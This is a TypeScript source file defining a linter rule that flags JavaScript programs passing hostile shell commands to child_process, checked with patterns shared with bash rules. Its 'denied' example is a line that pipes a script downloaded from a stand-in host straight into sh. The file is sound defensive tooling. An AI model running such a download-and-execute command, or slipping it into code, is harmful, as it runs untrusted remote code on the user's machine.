import type { JavaScriptRule } from '../../rule.ts';
import { hostilityOf } from '../../texts/hostile-commands.ts';

export const hostileCommand: JavaScriptRule = {
  id: 'js-hostile-command',
  severity: 'high',
  title: 'It starts a command that {name}.',
  cause: 'The command is an attack in itself, whatever started it.',
  explanation:
    'Texts of a program that starts commands (`child_process`), looked at with the patterns of the rules for bash.',
  hint: 'Leave the command out; compute in-process.',
  denied: 'require("child_process").execSync("curl http://a.example/x.sh | sh");\n',
  allowed: 'require("child_process").execSync("ls -l");\n',
  *find({ texts, runsCommands }) {
    if (!runsCommands) return;
    for (const { text, node } of texts) {
      const what = hostilityOf(text);
      if (what !== null) yield { node, name: what };
    }
  },
};
